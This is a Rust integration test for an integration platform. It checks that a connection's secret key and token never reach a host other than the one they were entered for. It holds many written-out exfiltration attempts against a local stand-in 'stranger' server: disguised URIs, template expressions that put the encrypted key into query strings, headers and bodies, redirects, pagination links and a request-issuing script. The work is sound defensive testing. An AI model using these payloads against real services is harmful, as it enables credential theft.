//! A secret goes to the host that it was entered for, by whatever road something asks for another one: absolute and
//! disguised addresses, pages, redirects, templates with helpers, scripts.

use std::sync::{Arc, Mutex};

use axum::Router;
use axum::extract::{Request, State};
use axum::http::{HeaderMap, StatusCode, header};
use axum::response::{IntoResponse, Response};
use axum::routing::{any, get};
use serde_json::{Value, json};

use super::client::{Api, owner};
use super::secrets::forms;
use super::whole_task::ended;
use crate::server::Server;

const CANARY: &str = "canary-of-one-host-0815";

/// Everything that came to an endpoint, as text.
type Heard = Arc<Mutex<Vec<String>>>;

async fn hear(State(heard): State<Heard>, request: Request) -> Response {
    let (head, body) = request.into_parts();
    let body = axum::body::to_bytes(body, 1 << 20).await.unwrap();
    let said = format!("{} {} {:?} {}", head.method, head.uri, head.headers, String::from_utf8_lossy(&body));
    heard.lock().unwrap().push(said);
    axum::Json(json!([{ "id": 1 }])).into_response()
}

/// The stranger, who writes down all that comes.
async fn stranger() -> (String, Heard) {
    let heard = Heard::default();
    let address = serve(Router::new().fallback(any(hear)).with_state(Arc::clone(&heard))).await;
    (address, heard)
}

/// The application, which sends its callers on to the stranger in every way it can.
async fn application(stranger: String) -> (String, Heard) {
    let heard = Heard::default();
    let moved = |status: StatusCode, to: String| {
        get(async move |State(heard): State<Heard>, headers: HeaderMap| {
            heard.lock().unwrap().push(format!("{headers:?}"));
            (status, [(header::LOCATION, to)])
        })
    };
    let (next, link) = (format!("{stranger}/page/2"), format!("<{stranger}/page/3>; rel=\"next\""));
    let router = Router::new()
        .route("/moved/302", moved(StatusCode::FOUND, format!("{stranger}/moved")))
        .route("/moved/307", moved(StatusCode::TEMPORARY_REDIRECT, format!("{stranger}/moved")))
        .route(
            "/moved/308",
            moved(StatusCode::PERMANENT_REDIRECT, format!("//{}/moved", stranger.rsplit('/').next().unwrap())),
        )
        .route("/next", get(async move || axum::Json(json!({ "items": [{ "id": 1 }], "next": next }))))
        .route("/link", get(async move || ([(header::LINK, link)], axum::Json(json!([{ "id": 1 }])))))
        .fallback(any(hear))
        .with_state(Arc::clone(&heard));
    (serve(router).await, heard)
}

async fn serve(router: Router) -> String {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let address = format!("http://{}", listener.local_addr().unwrap());
    tokio::spawn(async move { axum::serve(listener, router).await.unwrap() });
    address
}

/// What exports say of where they read, each of which leads to the stranger or tries to.
fn roads(stranger: &str) -> Vec<Value> {
    let host = stranger.rsplit('/').next().unwrap();
    let key = "connection.http.encrypted.key";
    let uris = [
        format!("{stranger}/orders"),
        format!("//{host}/orders"),
        format!("@{host}/orders"),
        format!(":x@{host}/orders"),
        format!("\\\\{host}/orders"),
        format!(".{host}/orders"),
        format!("{stranger}/?a={{{{{{{key}}}}}}}"),
        format!("{stranger}/?b={{{{{{base64Encode {key}}}}}}}"),
        format!("{stranger}/?c={{{{{{hmac \"sha256\" {key} \"x\"}}}}}}&d={{{{{{uppercase {key}}}}}}}"),
        format!("@{host}/{{{{{{encodeURI {key}}}}}}}"),
        "/moved/302".to_owned(),
        "/moved/307".to_owned(),
        "/moved/308".to_owned(),
        "/orders".to_owned(),
    ];
    let mut roads: Vec<Value> = uris.iter().map(|uri| json!({ "method": "GET", "relativeURI": uri })).collect();
    roads.push(json!({ "method": "GET", "relativeURI": "/link", "paging": { "method": "linkheader" } }));
    roads.push(json!({ "method": "GET", "relativeURI": "/next", "paging": { "method": "url", "path": "next" },
        "response": { "resourcePath": "items" } }));
    let headers = json!([{ "name": "x-key", "value": format!("{{{{{{base64Encode {key}}}}}}}") }, { "name": "host", "value": host }]);
    roads.push(json!({ "method": "POST", "relativeURI": format!("{stranger}/take"), "headers": headers,
        "body": format!("{{ \"key\": \"{{{{{{{key}}}}}}}\" }}") }));
    roads
}

async fn run(api: &Api, export: &str) -> Value {
    let flow = api.make("flows", json!({ "name": "f", "disabled": false, "pageGenerators": [{ "_exportId": export }], "pageProcessors": [] })).await;
    let job = api.post(&format!("/v1/flows/{flow}/run"), json!({})).await.good();
    ended(api, job["_jobId"].as_str().unwrap()).await
}

/// The forms of the secret that one of the texts has.
fn leaks(heard: &Heard) -> Vec<String> {
    let forms = forms(CANARY);
    let heard = heard.lock().unwrap();
    heard.iter().filter(|said| forms.iter().any(|form| said.contains(form.as_str()))).cloned().collect()
}

#[tokio::test]
async fn no_road_to_another_host_takes_the_secret_along() {
    let (stranger, stolen) = stranger().await;
    let (base, heard) = application(stranger.clone()).await;
    let server = Server::start_with(&["--allow-private-network"]);
    let (_ann, api) = owner(&server, "ann").await;
    let connection = json!({ "name": "Shop", "type": "http", "http": { "baseURI": base, "encrypted": { "key": CANARY },
        "auth": { "type": "token", "token": { "token": CANARY, "location": "header", "scheme": "Bearer" } } } });
    let connection = api.make("connections", connection).await;
    let script = "import { request } from 'integrator-api';
        function preSavePage(options) {
          for (const relativeURI of STRANGER) {
            try { request({ _connectionId: CONNECTION, method: 'GET', relativeURI }); } catch (error) { console.log(error.message); }
          }
          return { data: options.data, errors: options.errors, abort: false };
        }";
    let uris: Vec<Value> = roads(&stranger).iter().map(|http| http["relativeURI"].clone()).collect();
    let script =
        script.replace("STRANGER", &json!(uris).to_string()).replace("CONNECTION", &json!(connection).to_string());
    let script = api.make("scripts", json!({ "name": "Asks", "content": script })).await;
    for http in roads(&stranger) {
        let about = http.to_string();
        let export = json!({ "name": "e", "_connectionId": connection, "adaptorType": "HTTPExport", "http": http });
        let export = api.make("exports", export).await;
        let job = run(&api, &export).await;
        assert!(leaks(&stolen).is_empty(), "{about}: {:#?}", leaks(&stolen));
        assert!(!job.to_string().contains(CANARY), "{about}: {job}");
    }
    assert!(!leaks(&heard).is_empty(), "its own host got no secret: this test shows nothing");
    let export = json!({ "name": "e", "_connectionId": connection, "adaptorType": "HTTPExport",
        "http": { "method": "GET", "relativeURI": "/orders" },
        "hooks": { "preSavePage": { "_scriptId": script, "function": "preSavePage" } } });
    let export = api.make("exports", export).await;
    let before = heard.lock().unwrap().len();
    run(&api, &export).await;
    assert!(heard.lock().unwrap().len() > before + 1, "the script asked for nothing");
    assert!(leaks(&stolen).is_empty(), "a script: {:#?}", leaks(&stolen));
}
